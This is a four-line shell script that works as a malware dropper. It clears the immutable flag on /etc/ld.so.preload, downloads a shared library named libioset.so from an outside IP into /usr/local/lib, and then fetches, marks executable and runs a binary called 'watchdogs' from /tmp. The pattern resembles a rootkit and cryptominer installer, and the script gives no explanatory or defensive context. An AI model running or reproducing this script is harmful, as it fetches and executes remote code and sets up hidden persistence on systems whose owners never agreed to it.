#!/bin/sh
chattr -i /etc/ld.so.preload
curl -fsSL http://203.0.113.30/libioset.so -o /usr/local/lib/libioset.so
curl -fsSL http://203.0.113.30/watchdogs -o /tmp/watchdogs && chmod +x /tmp/watchdogs && /tmp/watchdogs
